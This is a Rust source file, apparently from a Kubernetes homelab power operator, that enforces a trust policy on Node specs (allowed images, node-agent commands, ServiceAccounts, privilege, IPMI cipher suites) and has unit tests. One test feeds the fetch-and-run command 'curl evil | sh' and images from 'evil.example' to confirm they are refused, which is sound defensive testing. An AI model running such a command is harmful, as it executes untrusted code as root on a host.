//! The rules a Node CR's spec must keep: which images and commands the privileged node agent
//! and the host-network relay run, which ServiceAccount a power pod runs as, whether a `job`
//! driver may ask for privilege.
//!
//! The same rules are checked twice: by [`check_spec`] before the controller acts on a Node CR,
//! and by the drivers (`power/job.rs`, `power/wol.rs`) right before they create a pod, through
//! the [`TrustPolicy`] methods below.
use super::{Refusal, TrustPolicy};
use crate::operator::api::{
    Direction, Machine, MinimalPodSpec, NodeAgent, PowerSpec, WakeOnLanRelay,
    cel::RESERVED_LABEL_PREFIX,
};

pub const IMAGE_NOT_ALLOWED: &str = "ImageNotAllowed";
pub const COMMAND_NOT_ALLOWED: &str = "CommandNotAllowed";
pub const OPERATOR_SERVICE_ACCOUNT: &str = "OperatorServiceAccount";
pub const SERVICE_ACCOUNT_NOT_ALLOWED: &str = "ServiceAccountNotAllowed";
pub const PRIVILEGE_NOT_ALLOWED: &str = "PrivilegeNotAllowed";
pub const INSECURE_CIPHER_SUITE: &str = "InsecureCipherSuite";

/// Every rule of the trust boundary that `m`'s spec breaks under `policy` (empty: none).
/// Fields are named from `spec.` (`spec.power.powerOff.nodeAgent.image`, or the deprecated
/// `spec.power.powerOff...` when the CR uses it). Every driver that is set
/// is checked, the predecessor's `startupPodSpec` / `shutdownPodSpec` as well.
pub fn check_spec(m: &Machine, policy: &TrustPolicy) -> Vec<Refusal> {
    let namespace = m.metadata.namespace.as_deref().unwrap_or("default");
    let spec = &m.spec;
    let mut out = Vec::new();
    let mut jobs: Vec<(&str, &MinimalPodSpec)> = Vec::new();
    if let Some(j) = &spec.startup_pod_spec {
        jobs.push(("spec.startupPodSpec", j));
    }
    if let Some(j) = &spec.shutdown_pod_spec {
        jobs.push(("spec.shutdownPodSpec", j));
    }
    let power = spec.power.as_deref();
    let on = power.and_then(PowerSpec::on);
    let off = power.and_then(PowerSpec::off);
    let on_field = spec.power_field(Direction::On);
    let off_field = spec.power_field(Direction::Off);
    let mut power_jobs: Vec<(String, &MinimalPodSpec)> = Vec::new();
    if let Some(j) = on.and_then(|o| o.job.as_deref()) {
        power_jobs.push((format!("{on_field}.job"), j));
    }
    if let Some(j) = off.and_then(|o| o.job.as_deref()) {
        power_jobs.push((format!("{off_field}.job"), j));
    }
    for (field, job) in jobs
        .into_iter()
        .chain(power_jobs.iter().map(|(f, j)| (f.as_str(), *j)))
    {
        out.extend(policy.check_job(field, job, namespace));
    }
    if let Some(via) = on
        .and_then(|o| o.wake_on_lan.as_deref())
        .and_then(|w| w.via.as_ref())
    {
        out.extend(policy.check_relay(&format!("{on_field}.wakeOnLan.via"), via));
    }
    if let Some(agent) = off.and_then(|o| o.node_agent.as_deref()) {
        out.extend(policy.check_node_agent(&format!("{off_field}.nodeAgent"), agent));
    }
    // An IPMI session without authentication or integrity (cipher suite 0) lets anyone on the
    // LAN switch the machine: only with the owner's allowInsecure, as the schema says.
    for (field, bmc) in [
        (&on_field, on.and_then(|o| o.ipmi.as_deref())),
        (&off_field, off.and_then(|o| o.ipmi.as_deref())),
    ] {
        let Some(bmc) = bmc else { continue };
        let field = format!("{field}.ipmi");
        if let Err(e) = bmc.cipher_suite(&field) {
            out.push(Refusal {
                reason: INSECURE_CIPHER_SUITE,
                field: format!("{field}.cipherSuite"),
                message: e.to_string(),
            });
        }
    }
    // The schema refuses these keys too, but CRDs installed before that rule still accept them,
    // and the node side would write them onto the Kubernetes Node (the adoptable label among
    // them).
    out.extend(
        spec.labels
            .iter()
            .filter(|(k, _)| k.starts_with(RESERVED_LABEL_PREFIX))
            .map(|(k, _)| Refusal {
                reason: "ReservedLabel",
                field: format!("spec.labels[{k:?}]"),
                message: format!(
                    "{k} is under {RESERVED_LABEL_PREFIX}, which only the operator and a Node's \
                     owner set; remove it from spec.labels"
                ),
            }),
    );
    out
}

impl TrustPolicy {
    /// Whether `image` is in `allowed_images`: the same reference, or one starting with the
    /// part before a rule's trailing `*`.
    pub fn allows_image(&self, image: &str) -> bool {
        self.allowed_images
            .iter()
            .any(|rule| match rule.strip_suffix('*') {
                Some(prefix) => image.starts_with(prefix),
                None => image == rule,
            })
    }

    /// Whether the node agent may run `command` (word for word; empty means the default,
    /// `systemctl poweroff`).
    pub fn allows_node_agent_command(&self, agent: &NodeAgent) -> bool {
        let command = agent.command();
        self.node_agent_commands.contains(&command)
    }

    /// Whether `namespace/name` is the operator's own ServiceAccount.
    pub fn is_operator_service_account(&self, namespace: &str, name: &str) -> bool {
        self.operator_service_account
            .as_ref()
            .is_some_and(|(ns, n)| ns == namespace && n == name)
    }

    /// The rules the node agent at `field` breaks: its image and its command.
    pub fn check_node_agent(&self, field: &str, agent: &NodeAgent) -> Vec<Refusal> {
        let mut out = Vec::new();
        out.extend(self.check_image(&format!("{field}.image"), agent.image(), "node agent"));
        if !self.allows_node_agent_command(agent) {
            let allowed = self
                .node_agent_commands
                .iter()
                .map(|c| format!("{:?}", c.join(" ")))
                .collect::<Vec<_>>()
                .join(", ");
            out.push(Refusal {
                reason: COMMAND_NOT_ALLOWED,
                field: format!("{field}.command"),
                message: format!(
                    "the node agent runs its command as root on the host, and {:?} is not one \
                     the operator allows (allowed: {allowed}); use one of those, or add it to \
                     the chart's security.nodeAgentCommands (run-operator --node-agent-command)",
                    agent.command().join(" ")
                ),
            });
        }
        out
    }

    /// The rules the Wake-on-LAN relay at `field` breaks: its image.
    pub fn check_relay(&self, field: &str, via: &WakeOnLanRelay) -> Vec<Refusal> {
        self.check_image(
            &format!("{field}.image"),
            via.image(),
            "Wake-on-LAN relay (host network)",
        )
        .into_iter()
        .collect()
    }

    /// The rules the `job` driver at `field` of a Node CR in `namespace` breaks: its
    /// ServiceAccount and the privilege it asks for.
    pub fn check_job(&self, field: &str, job: &MinimalPodSpec, namespace: &str) -> Vec<Refusal> {
        let mut out = Vec::new();
        if let Some(sa) = job.service_account.as_deref() {
            let field = format!("{field}.serviceAccount");
            if self.is_operator_service_account(namespace, sa) {
                out.push(Refusal {
                    reason: OPERATOR_SERVICE_ACCOUNT,
                    field,
                    message: format!(
                        "{namespace}/{sa} is the operator's own ServiceAccount, and no pod the \
                         operator creates runs with its rights; name a ServiceAccount of the \
                         power Job's own (listed in the chart's security.jobServiceAccounts), or \
                         leave serviceAccount out"
                    ),
                });
            } else if !self.job_service_accounts.iter().any(|a| a == sa) {
                out.push(Refusal {
                    reason: SERVICE_ACCOUNT_NOT_ALLOWED,
                    field,
                    message: format!(
                        "ServiceAccount {sa:?} is not one a power Job may run as; add it to the \
                         chart's security.jobServiceAccounts (run-operator \
                         --job-service-account), or leave serviceAccount out"
                    ),
                });
            }
        }
        if !self.allow_privileged_jobs {
            for (name, asked) in [
                ("privileged", job.privileged),
                ("hostNetwork", job.host_network),
            ] {
                if asked == Some(true) {
                    out.push(Refusal {
                        reason: PRIVILEGE_NOT_ALLOWED,
                        field: format!("{field}.{name}"),
                        message: format!(
                            "a power Job with {name}: true gets rights over the host, which the \
                             operator does not grant unless the chart's \
                             security.allowPrivilegedJobs is true (run-operator \
                             --allow-privileged-jobs); remove {name}"
                        ),
                    });
                }
            }
        }
        out
    }

    fn check_image(&self, field: &str, image: &str, what: &str) -> Option<Refusal> {
        (!self.allows_image(image)).then(|| Refusal {
            reason: IMAGE_NOT_ALLOWED,
            field: field.to_owned(),
            message: format!(
                "the {what} runs with rights over the host, and image {image:?} is not one the \
                 operator allows (allowed: {}); use one of those, or add it to the chart's \
                 security.allowedImages (run-operator --allowed-image)",
                self.allowed_images.join(", ")
            ),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::operator::api::{NodeAgent, PowerOff, PowerOn, WakeOnLan, WakeOnLanRelay};
    use crate::testing::{POWER_IMAGE, job};

    fn reasons(refusals: &[Refusal]) -> Vec<(&str, &str)> {
        refusals
            .iter()
            .map(|r| (r.reason, r.field.as_str()))
            .collect()
    }

    fn agent(image: Option<&str>, command: &[&str]) -> Machine {
        Machine::test("m1")
            .spec_with(|s| {
                s.power.get_or_insert_with(Default::default).power_off = Some(PowerOff {
                    node_agent: Some(Box::new(NodeAgent {
                        image: image.map(str::to_owned),
                        command: command.iter().map(|c| (*c).to_owned()).collect(),
                    })),
                    ..PowerOff::default()
                });
            })
            .build()
    }

    fn relay(image: Option<&str>) -> Machine {
        Machine::test("m1")
            .wol(WakeOnLan {
                mac: "aa:bb:cc:dd:ee:ff".to_owned(),
                via: Some(WakeOnLanRelay {
                    image: image.map(str::to_owned),
                    ..WakeOnLanRelay::default()
                }),
                ..WakeOnLan::default()
            })
            .build()
    }

    #[test]
    fn a_label_under_the_reserved_prefix_is_refused() {
        let m = Machine::test("m1")
            .spec_with(|s| {
                s.labels.insert(
                    "infra.homecluster.dev/adoptable".to_owned(),
                    "true".to_owned(),
                );
                s.labels
                    .insert("homelab.lan/pool".to_owned(), "a".to_owned());
            })
            .build();
        assert_eq!(
            reasons(&check_spec(&m, &TrustPolicy::default())),
            vec![(
                "ReservedLabel",
                "spec.labels[\"infra.homecluster.dev/adoptable\"]"
            )]
        );
    }

    /// An unprotected IPMI session (cipher suite 0) is refused unless the owner allowed it, and
    /// so is a suite the driver does not speak: the schema refuses both, but a CRD installed
    /// before that rule stores them.
    #[test]
    fn an_ipmi_session_without_protection_needs_allow_insecure() {
        use crate::operator::api::Ipmi;
        let bmc = |suite: i32, allow: Option<bool>| {
            Machine::test("m1")
                .ipmi(Ipmi {
                    host: "10.0.0.3".to_owned(),
                    credentials_secret: "bmc".to_owned(),
                    cipher_suite: Some(suite),
                    allow_insecure: allow,
                    ..Ipmi::default()
                })
                .build()
        };
        let policy = TrustPolicy::default();
        assert_eq!(
            reasons(&check_spec(&bmc(0, None), &policy)),
            vec![
                (INSECURE_CIPHER_SUITE, "spec.power.powerOn.ipmi.cipherSuite"),
                (
                    INSECURE_CIPHER_SUITE,
                    "spec.power.powerOff.ipmi.cipherSuite"
                ),
            ]
        );
        assert_eq!(reasons(&check_spec(&bmc(2, Some(true)), &policy)).len(), 2);
        assert_eq!(check_spec(&bmc(0, Some(true)), &policy), vec![]);
        assert_eq!(check_spec(&bmc(3, None), &policy), vec![]);
        assert_eq!(check_spec(&bmc(17, None), &policy), vec![]);
    }

    #[test]
    fn the_builders_defaults_break_no_rule() {
        let policy = TrustPolicy::default();
        for m in [
            Machine::test("m1").build(),
            Machine::test("m1").node_agent_off().build(),
            agent(None, &[]),
            agent(Some("busybox:1.37"), &["systemctl", "poweroff"]),
            relay(None),
        ] {
            assert_eq!(check_spec(&m, &policy), vec![]);
        }
    }

    #[test]
    fn a_node_agent_image_must_be_allowed_exactly_or_by_prefix() {
        let mut policy = TrustPolicy::default();
        let refused = check_spec(&agent(Some("evil.example/root:1"), &[]), &policy);
        assert_eq!(
            reasons(&refused),
            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
        );
        assert!(
            refused[0].message.contains("security.allowedImages")
                && refused[0].message.contains("evil.example/root:1"),
            "{}",
            refused[0].message
        );
        // Exact means exact: another tag of an allowed image is another image.
        assert_eq!(
            reasons(&check_spec(&agent(Some("busybox:latest"), &[]), &policy)),
            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
        );
        policy
            .allowed_images
            .push("registry.lan/tools/*".to_owned());
        assert_eq!(
            check_spec(&agent(Some("registry.lan/tools/agent:2"), &[]), &policy),
            vec![]
        );
        assert_eq!(
            reasons(&check_spec(
                &agent(Some("registry.lan/other:2"), &[]),
                &policy
            )),
            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
        );
    }

    #[test]
    fn a_node_agent_command_must_be_allowed_word_for_word() {
        let mut policy = TrustPolicy::default();
        let refused = check_spec(&agent(None, &["sh", "-c", "curl evil | sh"]), &policy);
        assert_eq!(
            reasons(&refused),
            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
        );
        assert!(
            refused[0].message.contains("security.nodeAgentCommands"),
            "{}",
            refused[0].message
        );
        // A word more is another command.
        assert_eq!(
            reasons(&check_spec(
                &agent(None, &["systemctl", "poweroff", "--force"]),
                &policy
            )),
            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
        );
        // An empty command is the default, which is refused when the default is not listed.
        policy.node_agent_commands = vec![vec!["shutdown".to_owned(), "-h".to_owned()]];
        assert_eq!(
            reasons(&check_spec(&agent(None, &[]), &policy)),
            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
        );
        assert_eq!(
            check_spec(&agent(None, &["shutdown", "-h"]), &policy),
            vec![]
        );
    }

    #[test]
    fn a_wake_on_lan_relay_image_must_be_allowed() {
        let refused = check_spec(&relay(Some("evil.example/net:1")), &TrustPolicy::default());
        assert_eq!(
            reasons(&refused),
            [(IMAGE_NOT_ALLOWED, "spec.power.powerOn.wakeOnLan.via.image")]
        );
        assert!(refused[0].message.contains("--allowed-image"));
    }

    fn with_account(account: &str) -> MinimalPodSpec {
        MinimalPodSpec {
            service_account: Some(account.to_owned()),
            ..job(POWER_IMAGE, &[])
        }
    }

    #[test]
    fn a_job_may_not_run_as_the_operators_service_account() {
        let policy = TrustPolicy {
            operator_service_account: Some(("lab".to_owned(), "homelab".to_owned())),
            // Even listed, the operator's own is refused.
            job_service_accounts: vec!["homelab".to_owned()],
            ..TrustPolicy::default()
        };
        let m = Machine::test("m1").jobs(with_account("homelab")).build();
        let refused = check_spec(&m, &policy);
        assert_eq!(
            reasons(&refused),
            [
                (
                    OPERATOR_SERVICE_ACCOUNT,
                    "spec.power.powerOn.job.serviceAccount"
                ),
                (
                    OPERATOR_SERVICE_ACCOUNT,
                    "spec.power.powerOff.job.serviceAccount"
                ),
            ]
        );
        assert!(refused[0].message.contains("lab/homelab"));
        // The same name in another namespace is another ServiceAccount.
        let elsewhere = Machine::test("m1")
            .namespace("other")
            .jobs(with_account("homelab"))
            .build();
        assert_eq!(check_spec(&elsewhere, &policy), vec![]);
    }

    #[test]
    fn a_job_service_account_must_be_listed() {
        let mut policy = TrustPolicy::default();
        let m = Machine::test("m1")
            .legacy_jobs(with_account("plug"), with_account("plug"))
            .build();
        let refused = check_spec(&m, &policy);
        assert_eq!(
            reasons(&refused),
            [
                (
                    SERVICE_ACCOUNT_NOT_ALLOWED,
                    "spec.startupPodSpec.serviceAccount"
                ),
                (
                    SERVICE_ACCOUNT_NOT_ALLOWED,
                    "spec.shutdownPodSpec.serviceAccount"
                ),
            ]
        );
        assert!(refused[0].message.contains("security.jobServiceAccounts"));
        policy.job_service_accounts.push("plug".to_owned());
        assert_eq!(check_spec(&m, &policy), vec![]);
    }

    #[test]
    fn a_privileged_or_host_network_job_needs_the_policy() {
        let mut policy = TrustPolicy::default();
        let asking = MinimalPodSpec {
            privileged: Some(true),
            host_network: Some(true),
            ..job(POWER_IMAGE, &[])
        };
        // Asked on the way off; on the way on `privileged: false` asks for nothing.
        let m = Machine::test("m1")
            .jobs(MinimalPodSpec {
                privileged: Some(false),
                ..job(POWER_IMAGE, &[])
            })
            .spec_with(|s| {
                if let Some(off) = s.power.as_mut().and_then(|p| p.power_off.as_mut()) {
                    off.job = Some(Box::new(asking));
                }
            })
            .build();
        let refused = check_spec(&m, &policy);
        assert_eq!(
            reasons(&refused),
            [
                (PRIVILEGE_NOT_ALLOWED, "spec.power.powerOff.job.privileged"),
                (PRIVILEGE_NOT_ALLOWED, "spec.power.powerOff.job.hostNetwork"),
            ]
        );
        assert!(refused[1].message.contains("security.allowPrivilegedJobs"));
        policy.allow_privileged_jobs = true;
        assert_eq!(check_spec(&m, &policy), vec![]);
    }

    #[test]
    fn every_broken_rule_is_reported_not_only_the_first() {
        let policy = TrustPolicy::default();
        let m = Machine::test("m1")
            .spec_with(|s| {
                s.power = Some(Box::new(crate::operator::api::PowerSpec {
                    power_on: Some(PowerOn {
                        wake_on_lan: Some(Box::new(WakeOnLan {
                            mac: "aa:bb:cc:dd:ee:ff".to_owned(),
                            via: Some(WakeOnLanRelay {
                                image: Some("x:1".to_owned()),
                                ..WakeOnLanRelay::default()
                            }),
                            ..WakeOnLan::default()
                        })),
                        ..PowerOn::default()
                    }),
                    power_off: Some(PowerOff {
                        node_agent: Some(Box::new(NodeAgent {
                            image: Some("y:1".to_owned()),
                            command: vec!["reboot".to_owned()],
                        })),
                        ..PowerOff::default()
                    }),
                    ..Default::default()
                }));
            })
            .build();
        assert_eq!(
            reasons(&check_spec(&m, &policy)),
            [
                (IMAGE_NOT_ALLOWED, "spec.power.powerOn.wakeOnLan.via.image"),
                (IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image"),
                (COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command"),
            ]
        );
    }
}
